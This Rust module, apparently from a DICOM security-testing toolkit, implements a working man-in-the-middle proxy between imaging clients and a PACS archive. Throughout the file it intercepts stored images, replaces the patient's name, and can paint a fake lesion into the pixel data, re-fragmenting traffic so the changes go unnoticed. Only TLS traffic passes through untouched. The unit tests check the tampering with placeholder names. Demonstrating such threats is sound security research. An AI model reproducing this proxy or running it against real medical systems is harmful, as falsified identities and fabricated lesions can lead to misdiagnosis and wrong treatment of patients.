//! `proxy`: an on-path DICOM proxy (the data-manipulation threat). It listens, connects each
//! client to the upstream PACS and forwards PDUs both ways. In P-DATA from the client, the
//! data set that follows a C-STORE-RQ is buffered until its last fragment, its top-level
//! PatientName (0010,0010) is replaced (element length recomputed; nothing else in the data
//! set changes), and it is re-fragmented into P-DATA-TF PDUs no larger than the upstream
//! accepted (A-ASSOCIATE-AC max length), each with its own PDV item length and PDU length.
//! With `tamper_pixels` it also paints a fake lesion into the image ([`crate::pixels`]).
//! Queries (C-FIND identifiers) and everything from the PACS pass untouched.
//!
//! Transfer syntaxes: Implicit and Explicit VR Little Endian encodings of the data set
//! (which includes JPEG and other encapsulated syntaxes: their data sets are Explicit VR
//! LE); Deflated and Big Endian data sets are forwarded untouched.
//!
//! Over DICOM TLS the proxy cannot read anything: when the client's first byte is a TLS
//! handshake record it copies the bytes both ways untouched and reports `tls_seen`.
//!
//! Bounded: at most [`MAX_ASSOCIATIONS_AT_ONCE`] associations at once; a P-DATA-TF no
//! longer than the maximum length its receiver announced (the upstream's A-ASSOCIATE-AC,
//! the client's A-ASSOCIATE-RQ; other PDUs 1 MiB), refused from its header, and read into a
//! buffer that grows with the bytes received; a command set up to
//! [`crate::bounds::MAX_COMMAND`] and a data set buffered up to [`MAX_BUFFERED`] bytes
//! (larger: the association is dropped); command sets and images walked by
//! [`crate::bounds`] before they are parsed (one that cannot be walked is forwarded
//! untouched); every read under the idle timeout, the whole run under `--max-secs`.

use super::raw;
use crate::dimse::{self, command};
use dicom_dictionary_std::{tags, uids};
use dicom_ul::Pdu;
use protocol::result::{LesionLine, ProxyListening, ProxyResult, tags as line_tags, to_value};
use serde_json::Value;
use std::collections::HashMap;
use std::future::Future;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

pub const MAX_ASSOCIATIONS_AT_ONCE: usize = 64;
pub const MAX_BUFFERED: usize = 512 << 20;
/// Fragment size used when the upstream announced no limit (max length 0).
const DEFAULT_FRAGMENT: u32 = 64 * 1024;

#[derive(Debug, Clone)]
pub struct ProxyOptions {
    pub listen: String,
    pub upstream: String,
    pub new_name: String,
    /// Also alter the image (a bright disc in the first frame).
    pub tamper_pixels: bool,
    pub max_time: Duration,
    pub idle_timeout: Duration,
}

#[derive(Default)]
pub(crate) struct Totals {
    associations: AtomicU64,
    rewritten: AtomicU64,
    pixels_tampered: AtomicU64,
    /// The first lesions painted (centre, radius, encoding), for the report.
    lesions: Mutex<Vec<LesionLine>>,
    tls_seen: AtomicBool,
    original_names: Mutex<Vec<String>>,
    errors: Mutex<Vec<String>>,
}

// ---------------------------------------------------------------------------------------
// Data set surgery

/// Replace the value of the top-level PatientName in a Little Endian data set. Returns the
/// new data set and the old name, or `None` when there is no PatientName (or the data set
/// cannot be walked).
pub fn rewrite_patient_name(data: &[u8], explicit: bool, new: &str) -> Option<(Vec<u8>, String)> {
    for element in wire::top_level_elements(data, explicit, false) {
        let (at, h) = element.ok()?;
        let tag = (h.tag.group(), h.tag.element());
        if tag > (0x0010, 0x0010) {
            return None;
        }
        if tag != (0x0010, 0x0010) {
            continue;
        }
        let value_at = h.value_at(at);
        let len = h.length? as usize;
        let old = data.get(value_at..value_at + len)?;
        let old = String::from_utf8_lossy(old)
            .trim_end_matches([' ', '\0'])
            .to_string();
        let mut value = new.as_bytes().to_vec();
        if value.len() % 2 == 1 {
            value.push(b' ');
        }
        let short = h.length_size == 2;
        if short && value.len() > u16::MAX as usize {
            return None;
        }
        let mut out = Vec::with_capacity(data.len() + value.len());
        out.extend_from_slice(&data[..h.length_at]);
        if short {
            out.extend_from_slice(&(value.len() as u16).to_le_bytes());
        } else {
            out.extend_from_slice(&(value.len() as u32).to_le_bytes());
        }
        out.extend_from_slice(&data[h.length_at + h.length_size..value_at]);
        out.extend_from_slice(&value);
        out.extend_from_slice(&data[value_at + len..]);
        return Some((out, old));
    }
    None
}

/// Split a data set into P-DATA-TF PDUs (one PDV each) of at most `max_pdu` bytes of
/// PDU body (the receiver's maximum length).
pub fn fragment(pc_id: u8, data: &[u8], max_pdu: u32) -> Vec<Vec<u8>> {
    let max_pdu = if max_pdu == 0 {
        DEFAULT_FRAGMENT
    } else {
        max_pdu
    };
    let chunk = (max_pdu.saturating_sub(6)).max(1) as usize;
    let mut out = Vec::new();
    let mut pieces: Vec<&[u8]> = data.chunks(chunk).collect();
    if pieces.is_empty() {
        pieces.push(&[]);
    }
    let n = pieces.len();
    for (i, p) in pieces.into_iter().enumerate() {
        let item_len = (p.len() + 2) as u32;
        let pdu_len = item_len + 4;
        let mut b = Vec::with_capacity(6 + pdu_len as usize);
        b.extend_from_slice(&[0x04, 0x00]);
        b.extend_from_slice(&pdu_len.to_be_bytes());
        b.extend_from_slice(&item_len.to_be_bytes());
        b.push(pc_id);
        b.push(if i + 1 == n { 0x02 } else { 0x00 }); // data set, last fragment?
        b.extend_from_slice(p);
        out.push(b);
    }
    out
}

// ---------------------------------------------------------------------------------------
// The proxy

/// What the client->upstream direction needs from the negotiation.
#[derive(Default)]
pub(crate) struct Negotiated {
    /// Presentation context id -> accepted transfer syntax.
    pub ts: HashMap<u8, String>,
    /// The upstream's maximum PDU length (what we may send it; 0: no limit announced).
    pub upstream_max: u32,
    /// The client's maximum PDU length (what it accepts from the upstream; 0: no limit).
    pub client_max: u32,
}

/// The largest PDU other than P-DATA-TF (an A-ASSOCIATE-RQ with every context is far
/// below this).
const MAX_CONTROL_PDU: u32 = 1 << 20;

/// Read one PDU, refusing one longer than `max` (0: [`MAX_BUFFERED`]) from its header; the
/// buffer grows with the bytes that arrive, never to what the header claims up front.
async fn read_pdu<R: AsyncRead + Unpin>(
    r: &mut R,
    idle: Duration,
    max: impl Fn(u8) -> u32,
) -> Result<Option<Vec<u8>>, String> {
    let mut hdr = [0u8; 6];
    match tokio::time::timeout(idle, r.read_exact(&mut hdr)).await {
        Err(_) => return Err("idle timeout".into()),
        Ok(Err(e)) if e.kind() == std::io::ErrorKind::UnexpectedEof => return Ok(None),
        Ok(Err(e)) => return Err(e.to_string()),
        Ok(Ok(_)) => {}
    }
    let len = u32::from_be_bytes([hdr[2], hdr[3], hdr[4], hdr[5]]);
    let limit = match max(hdr[0]) {
        0 => MAX_BUFFERED as u32,
        m => m.min(MAX_BUFFERED as u32),
    };
    if len > limit {
        return Err(format!(
            "PDU of type 0x{:02X} and {len} bytes, over the maximum length {limit}: refused",
            hdr[0]
        ));
    }
    let mut buf = Vec::with_capacity(6 + (len as usize).min(64 * 1024));
    buf.extend_from_slice(&hdr);
    let got = tokio::time::timeout(idle, (&mut *r).take(u64::from(len)).read_to_end(&mut buf))
        .await
        .map_err(|_| "idle timeout".to_string())?
        .map_err(|e| e.to_string())?;
    if got < len as usize {
        return Err(format!(
            "the connection closed {got} bytes into a PDU of {len}"
        ));
    }
    Ok(Some(buf))
}

/// The maximum for a PDU of type `kind` sent to a receiver that announced `max`.
fn limit_for(kind: u8, max: u32) -> u32 {
    if kind == 0x04 { max } else { MAX_CONTROL_PDU }
}

/// Upstream -> client: forward untouched, learning the negotiation from the AC.
async fn downstream<R, W>(
    mut from: R,
    mut to: W,
    neg: Arc<Mutex<Negotiated>>,
    idle: Duration,
) -> Result<(), String>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    loop {
        let client_max = neg.lock().unwrap().client_max;
        let Some(p) = read_pdu(&mut from, idle, |k| limit_for(k, client_max)).await? else {
            break;
        };
        if p[0] == 0x02
            && let Ok(Pdu::AssociationAC(ac)) = raw::decode(&p)
        {
            let mut n = neg.lock().unwrap();
            for pc in &ac.presentation_contexts {
                if pc.reason == dicom_ul::pdu::PresentationContextResultReason::Acceptance {
                    n.ts.insert(pc.id, pc.transfer_syntax.trim_end_matches('\0').to_string());
                }
            }
            n.upstream_max = raw::max_length(&ac.user_variables).unwrap_or(0);
        }
        to.write_all(&p).await.map_err(|e| e.to_string())?;
    }
    let _ = to.shutdown().await;
    Ok(())
}

/// What the proxy does to the client's P-DATA: it follows command sets to find C-STORE-RQs
/// and buffers, rewrites and re-fragments their data sets. Pure (no I/O), so it is fuzzed.
#[derive(Default)]
pub(crate) struct Rewriter {
    command_buf: Vec<u8>,
    rewrite_next: bool,
    data_buf: Vec<u8>,
}

impl Rewriter {
    /// One P-DATA-TF `p` (header included) from the client: `None` to forward it as is,
    /// or the PDUs to send instead, in order.
    pub(crate) fn pdata(
        &mut self,
        p: &[u8],
        neg: &Mutex<Negotiated>,
        opts: &ProxyOptions,
        totals: &Totals,
    ) -> Result<Option<Vec<Vec<u8>>>, String> {
        let mut out = Vec::new();
        let mut at = 6usize;
        let mut passthrough: Vec<(u8, u8, &[u8])> = Vec::new();
        let mut modified = false;
        while at + 6 <= p.len() {
            let item_len = u32::from_be_bytes([p[at], p[at + 1], p[at + 2], p[at + 3]]) as usize;
            if item_len < 2 || item_len > p.len() - at - 4 {
                return Err("malformed PDV item in P-DATA-TF".into());
            }
            let pc = p[at + 4];
            let ctrl = p[at + 5];
            let value = &p[at + 6..at + 4 + item_len];
            at += 4 + item_len;
            let is_command = ctrl & 1 == 1;
            let is_last = ctrl & 2 == 2;
            if is_command {
                if self.command_buf.len() + value.len() > crate::bounds::MAX_COMMAND {
                    return Err(format!(
                        "a command set larger than {} bytes: association dropped",
                        crate::bounds::MAX_COMMAND
                    ));
                }
                self.command_buf.extend_from_slice(value);
                if is_last {
                    self.rewrite_next = dimse::parse_command(&self.command_buf)
                        .ok()
                        .and_then(|c| dimse::get_u16(&c, tags::COMMAND_FIELD))
                        == Some(command::C_STORE_RQ);
                    self.command_buf.clear();
                }
                passthrough.push((pc, ctrl, value));
                continue;
            }
            if !self.rewrite_next {
                passthrough.push((pc, ctrl, value));
                continue;
            }
            // A data set to rewrite: flush what came before it, then buffer.
            modified = true;
            if !passthrough.is_empty() {
                out.push(pdvs_pdu(&passthrough));
                passthrough.clear();
            }
            if self.data_buf.len() + value.len() > MAX_BUFFERED {
                return Err(format!(
                    "a data set larger than {MAX_BUFFERED} bytes: association dropped"
                ));
            }
            self.data_buf.extend_from_slice(value);
            if is_last {
                let (ts, max) = {
                    let n = neg.lock().unwrap();
                    (n.ts.get(&pc).cloned().unwrap_or_default(), n.upstream_max)
                };
                let data = std::mem::take(&mut self.data_buf);
                let new = rewrite(data, &ts, opts, totals);
                out.extend(fragment(pc, &new, max));
                self.rewrite_next = false;
            }
        }
        if !modified {
            // Nothing of this PDU was rewritten or buffered: forward it as is.
            return Ok(None);
        }
        if !passthrough.is_empty() {
            out.push(pdvs_pdu(&passthrough));
        }
        Ok(Some(out))
    }
}

/// The data set of a C-STORE-RQ as the proxy sends it on: PatientName replaced, and the
/// lesion painted if asked.
fn rewrite(data: Vec<u8>, ts: &str, opts: &ProxyOptions, totals: &Totals) -> Vec<u8> {
    let explicit = match ts {
        uids::IMPLICIT_VR_LITTLE_ENDIAN => Some(false),
        "1.2.840.10008.1.2.2" | uids::DEFLATED_EXPLICIT_VR_LITTLE_ENDIAN => None,
        _ => Some(true),
    };
    let mut out = match explicit.and_then(|e| rewrite_patient_name(&data, e, &opts.new_name)) {
        Some((new, old)) => {
            totals.rewritten.fetch_add(1, Ordering::SeqCst);
            let mut names = totals.original_names.lock().unwrap();
            if names.len() < 100 && !names.contains(&old) {
                names.push(old);
            }
            new
        }
        None => data,
    };
    if opts.tamper_pixels {
        match crate::pixels::inject_lesion(&out, ts) {
            Ok((altered, lesion)) => {
                out = altered;
                totals.pixels_tampered.fetch_add(1, Ordering::SeqCst);
                let mut lesions = totals.lesions.lock().unwrap();
                if lesions.len() < 20 {
                    lesions.push(LesionLine {
                        centre: [lesion.centre.0 as u64, lesion.centre.1 as u64],
                        encoding: lesion.encoding.into(),
                        radius: lesion.radius as u64,
                    });
                }
            }
            Err(why) => push_error(totals, format!("image left as is: {why}")),
        }
    }
    out
}

/// Client -> upstream: rewrite the data sets of C-STORE-RQs.
async fn upstream<R, W>(
    mut from: R,
    mut to: W,
    neg: Arc<Mutex<Negotiated>>,
    opts: Arc<ProxyOptions>,
    totals: Arc<Totals>,
) -> Result<(), String>
where
    R: AsyncRead + Unpin,
    W: AsyncWrite + Unpin,
{
    let mut rw = Rewriter::default();
    loop {
        let upstream_max = neg.lock().unwrap().upstream_max;
        let Some(p) =
            read_pdu(&mut from, opts.idle_timeout, |k| limit_for(k, upstream_max)).await?
        else {
            break;
        };
        if p[0] == 0x01
            && let Ok(Pdu::AssociationRQ(rq)) = raw::decode(&p)
        {
            neg.lock().unwrap().client_max = raw::max_length(&rq.user_variables).unwrap_or(0);
        }
        if p[0] != 0x04 {
            to.write_all(&p).await.map_err(|e| e.to_string())?;
            continue;
        }
        match rw.pdata(&p, &neg, &opts, &totals)? {
            None => to.write_all(&p).await.map_err(|e| e.to_string())?,
            Some(pdus) => {
                for pdu in pdus {
                    to.write_all(&pdu).await.map_err(|e| e.to_string())?;
                }
            }
        }
    }
    let _ = to.shutdown().await;
    Ok(())
}

/// PDVs (pc id, control header, value) as one P-DATA-TF.
fn pdvs_pdu(pdvs: &[(u8, u8, &[u8])]) -> Vec<u8> {
    let body: usize = pdvs.iter().map(|(_, _, v)| 6 + v.len()).sum();
    let mut b = Vec::with_capacity(6 + body);
    b.extend_from_slice(&[0x04, 0x00]);
    b.extend_from_slice(&(body as u32).to_be_bytes());
    for (pc, ctrl, v) in pdvs {
        b.extend_from_slice(&((v.len() + 2) as u32).to_be_bytes());
        b.push(*pc);
        b.push(*ctrl);
        b.extend_from_slice(v);
    }
    b
}

async fn handle(client: TcpStream, opts: Arc<ProxyOptions>, totals: Arc<Totals>) {
    let _ = client.set_nodelay(true);
    let server = match tokio::time::timeout(
        opts.idle_timeout,
        TcpStream::connect(opts.upstream.as_str()),
    )
    .await
    {
        Ok(Ok(s)) => s,
        Ok(Err(e)) => {
            push_error(&totals, format!("cannot connect to {}: {e}", opts.upstream));
            return;
        }
        Err(_) => {
            push_error(&totals, format!("no answer from {}", opts.upstream));
            return;
        }
    };
    let _ = server.set_nodelay(true);
    totals.associations.fetch_add(1, Ordering::SeqCst);
    // TLS? The first byte of a TLS ClientHello record is 0x16; a DICOM A-ASSOCIATE-RQ
    // starts with 0x01.
    let mut first = [0u8; 1];
    let peeked = tokio::time::timeout(opts.idle_timeout, client.peek(&mut first)).await;
    if matches!(peeked, Ok(Ok(1))) && first[0] == 0x16 {
        totals.tls_seen.store(true, Ordering::SeqCst);
        let (mut c, mut s) = (client, server);
        let r = tokio::time::timeout(opts.max_time, tokio::io::copy_bidirectional(&mut c, &mut s))
            .await;
        if let Ok(Err(e)) = r {
            push_error(&totals, format!("TLS pass-through: {e}"));
        }
        return;
    }
    let (cr, cw) = client.into_split();
    let (sr, sw) = server.into_split();
    let neg = Arc::new(Mutex::new(Negotiated::default()));
    let down = tokio::spawn(downstream(sr, cw, neg.clone(), opts.idle_timeout));
    let up = upstream(cr, sw, neg, opts.clone(), totals.clone()).await;
    if let Err(e) = up {
        push_error(&totals, format!("client -> upstream: {e}"));
        down.abort();
        return;
    }
    match tokio::time::timeout(opts.idle_timeout, down).await {
        Ok(Ok(Err(e))) => push_error(&totals, format!("upstream -> client: {e}")),
        Err(_) => push_error(&totals, "upstream -> client: idle timeout".into()),
        _ => {}
    }
}

fn push_error(t: &Totals, e: String) {
    let mut errs = t.errors.lock().unwrap();
    if errs.len() < 20 {
        errs.push(e);
    }
}

/// Run until `shutdown` or `max_time`. `emit` prints `{"event":"listening"}` first.
pub async fn run(
    opts: ProxyOptions,
    shutdown: impl Future<Output = ()>,
    emit: fn(&Value),
) -> Result<Value, String> {
    let listener = TcpListener::bind(opts.listen.as_str())
        .await
        .map_err(|e| format!("cannot listen on {}: {e}", opts.listen))?;
    let local = listener
        .local_addr()
        .map(|a| a.to_string())
        .unwrap_or_default();
    emit(&to_value(&ProxyListening {
        event: line_tags::Listening,
        listen: local,
        upstream: opts.upstream.clone(),
    }));
    let opts = Arc::new(opts);
    let totals = Arc::new(Totals::default());
    let permits = Arc::new(tokio::sync::Semaphore::new(MAX_ASSOCIATIONS_AT_ONCE));
    let mut tasks = tokio::task::JoinSet::new();
    let deadline = tokio::time::sleep(opts.max_time);
    tokio::pin!(deadline);
    tokio::pin!(shutdown);
    loop {
        let permit = tokio::select! {
            p = permits.clone().acquire_owned() => p.expect("semaphore closed"),
            _ = &mut shutdown => break,
            _ = &mut deadline => break,
        };
        let (sock, _) = tokio::select! {
            r = listener.accept() => match r {
                Ok(x) => x,
                Err(e) => {
                    push_error(&totals, format!("accept failed: {e}"));
                    tokio::time::sleep(Duration::from_millis(100)).await;
                    continue;
                }
            },
            _ = &mut shutdown => break,
            _ = &mut deadline => break,
        };
        let (o, t) = (opts.clone(), totals.clone());
        tasks.spawn(async move {
            handle(sock, o, t).await;
            drop(permit);
        });
        while tasks.try_join_next().is_some() {}
    }
    // Let associations in flight finish, briefly.
    let _ = tokio::time::timeout(Duration::from_secs(3), async {
        while tasks.join_next().await.is_some() {}
    })
    .await;
    tasks.abort_all();
    let rewritten = totals.rewritten.load(Ordering::SeqCst);
    let pixels_tampered = totals.pixels_tampered.load(Ordering::SeqCst);
    Ok(to_value(&ProxyResult {
        action: "proxy".into(),
        associations: totals.associations.load(Ordering::SeqCst),
        errors: totals.errors.lock().unwrap().clone(),
        lesions: totals.lesions.lock().unwrap().clone(),
        new_patient_name: opts.new_name.clone(),
        original_names: totals.original_names.lock().unwrap().clone(),
        pixels_tampered,
        rewritten,
        success: rewritten > 0 || pixels_tampered > 0,
        tls_seen: totals.tls_seen.load(Ordering::SeqCst),
    }))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn synth(ts: crate::synth::Syntax) -> (Vec<u8>, String) {
        let spec = crate::synth::StudySpec {
            syntax: ts,
            rows: 8,
            cols: 8,
            ..Default::default()
        };
        let i = crate::synth::generate(&spec).unwrap().remove(0);
        (
            i.encode_dataset().unwrap(),
            i.transfer_syntax_uid.to_string(),
        )
    }

    #[test]
    fn rewrites_patient_name_explicit_and_implicit() {
        for syntax in [
            crate::synth::Syntax::ExplicitLe,
            crate::synth::Syntax::JpegBaseline,
        ] {
            let (data, ts) = synth(syntax);
            let (new, old) = rewrite_patient_name(&data, true, "ATTACKER^EVE").unwrap();
            assert_eq!(old, "DOE^JANE");
            let obj = crate::dimse::parse_dataset(&new, &ts).unwrap();
            assert_eq!(
                crate::dimse::get_str(&obj, tags::PATIENT_NAME).unwrap(),
                "ATTACKER^EVE"
            );
            assert_eq!(new.len(), data.len() + 4);
        }
        // Implicit VR: re-encode the same object.
        let (data, ts) = synth(crate::synth::Syntax::ExplicitLe);
        let obj = crate::dimse::parse_dataset(&data, &ts).unwrap();
        let implicit = crate::dimse::encode_dataset(&obj, uids::IMPLICIT_VR_LITTLE_ENDIAN).unwrap();
        let (new, _) = rewrite_patient_name(&implicit, false, "X^Y").unwrap();
        let obj = crate::dimse::parse_dataset(&new, uids::IMPLICIT_VR_LITTLE_ENDIAN).unwrap();
        assert_eq!(
            crate::dimse::get_str(&obj, tags::PATIENT_NAME).unwrap(),
            "X^Y"
        );
    }

    #[test]
    fn skips_undefined_length_sequences_before_the_name() {
        // (0008,1111) SQ undefined length with one undefined-length item holding (0008,1150)
        // then (0010,0010) PN.
        let mut d = Vec::new();
        d.extend_from_slice(&[
            0x08, 0, 0x11, 0x11, b'S', b'Q', 0, 0, 0xFF, 0xFF, 0xFF, 0xFF,
        ]);
        d.extend_from_slice(&[0xFE, 0xFF, 0x00, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF]);
        d.extend_from_slice(&[0x08, 0, 0x50, 0x11, b'U', b'I', 4, 0, b'1', b'.', b'2', 0]);
        d.extend_from_slice(&[0xFE, 0xFF, 0x0D, 0xE0, 0, 0, 0, 0]);
        d.extend_from_slice(&[0xFE, 0xFF, 0xDD, 0xE0, 0, 0, 0, 0]);
        d.extend_from_slice(&[0x10, 0, 0x10, 0, b'P', b'N', 4, 0, b'A', b'^', b'B', b' ']);
        d.extend_from_slice(&[0x10, 0, 0x20, 0, b'L', b'O', 2, 0, b'I', b'D']);
        let (new, old) = rewrite_patient_name(&d, true, "EVE").unwrap();
        assert_eq!(old, "A^B");
        assert_eq!(
            &new[d.len() - 22..d.len() - 10],
            b"\x10\0\x10\0PN\x04\0EVE "
        );
        assert!(new.ends_with(&[0x10, 0, 0x20, 0, b'L', b'O', 2, 0, b'I', b'D']));
        // No PatientName: nothing to do.
        assert!(rewrite_patient_name(&d[..d.len() - 22], true, "EVE").is_none());
    }

    #[test]
    fn fragments_respect_max_pdu() {
        let data = vec![7u8; 10_000];
        let pdus = fragment(3, &data, 4096);
        assert_eq!(pdus.len(), 3);
        let mut back = Vec::new();
        for (i, p) in pdus.iter().enumerate() {
            let len = u32::from_be_bytes([p[2], p[3], p[4], p[5]]) as usize;
            assert_eq!(len + 6, p.len());
            assert!(len <= 4096);
            assert_eq!(p[10], 3);
            assert_eq!(p[11], if i == 2 { 2 } else { 0 });
            back.extend_from_slice(&p[12..]);
        }
        assert_eq!(back, data);
    }

    fn opts() -> ProxyOptions {
        ProxyOptions {
            listen: String::new(),
            upstream: String::new(),
            new_name: "EVE".into(),
            tamper_pixels: true,
            max_time: Duration::from_secs(1),
            idle_timeout: Duration::from_secs(1),
        }
    }

    fn pdv_pdu(pc: u8, ctrl: u8, v: &[u8]) -> Vec<u8> {
        pdvs_pdu(&[(pc, ctrl, v)])
    }

    #[tokio::test]
    async fn pdus_over_the_maximum_are_refused_from_their_header() {
        // 256 MiB claimed, 16 KiB negotiated: refused before any of it is read
        let mut claim = vec![0x04, 0x00];
        claim.extend_from_slice(&(256u32 << 20).to_be_bytes());
        claim.extend_from_slice(&[0; 100]);
        let e = read_pdu(&mut &claim[..], Duration::from_secs(1), |k| {
            limit_for(k, 16_384)
        })
        .await
        .unwrap_err();
        assert!(e.contains("over the maximum length 16384"), "{e}");
        // within the maximum but cut short: an error, not a PDU
        let mut short = vec![0x04, 0x00];
        short.extend_from_slice(&1000u32.to_be_bytes());
        short.extend_from_slice(&[0; 10]);
        let e = read_pdu(&mut &short[..], Duration::from_secs(1), |_| 0)
            .await
            .unwrap_err();
        assert!(e.contains("closed"), "{e}");
    }

    #[test]
    fn a_deeply_nested_image_is_forwarded_not_parsed() {
        let neg = Mutex::new(Negotiated::default());
        neg.lock()
            .unwrap()
            .ts
            .insert(1, uids::EXPLICIT_VR_LITTLE_ENDIAN.to_string());
        let totals = Totals::default();
        let mut rw = Rewriter::default();
        let mut store = dimse::store_rq(1, uids::CT_IMAGE_STORAGE, "1.2.3");
        store.put(dicom_core::DataElement::new(
            tags::COMMAND_DATA_SET_TYPE,
            dicom_core::VR::US,
            dicom_core::dicom_value!(U16, [0x0000]),
        ));
        let cmd = match dimse::command_pdu(1, &store).unwrap() {
            Pdu::PData { mut data } => data.remove(0).data,
            _ => unreachable!(),
        };
        assert!(
            rw.pdata(&pdv_pdu(1, 0x03, &cmd), &neg, &opts(), &totals)
                .unwrap()
                .is_none()
        );
        let mut deep = Vec::new();
        for _ in 0..10_000 {
            deep.extend_from_slice(&[
                0x08, 0, 0x40, 0x11, b'S', b'Q', 0, 0, 0xFF, 0xFF, 0xFF, 0xFF,
            ]);
            deep.extend_from_slice(&[0xFE, 0xFF, 0x00, 0xE0, 0xFF, 0xFF, 0xFF, 0xFF]);
        }
        let out = rw
            .pdata(&pdv_pdu(1, 0x02, &deep), &neg, &opts(), &totals)
            .unwrap()
            .unwrap();
        let sent: Vec<u8> = out.iter().flat_map(|p| p[12..].to_vec()).collect();
        assert_eq!(sent, deep, "the data set was not forwarded unchanged");
        let errors = totals.errors.lock().unwrap();
        assert!(errors.iter().any(|e| e.contains("nest")), "{errors:?}");
    }

    #[test]
    fn command_sets_are_bounded() {
        let neg = Mutex::new(Negotiated::default());
        let mut rw = Rewriter::default();
        let chunk = vec![0u8; 16_000];
        let mut r = Ok(None);
        for _ in 0..8 {
            r = rw.pdata(&pdv_pdu(1, 0x01, &chunk), &neg, &opts(), &Totals::default());
            if r.is_err() {
                break;
            }
        }
        assert!(r.unwrap_err().contains("command set larger"));
    }
}
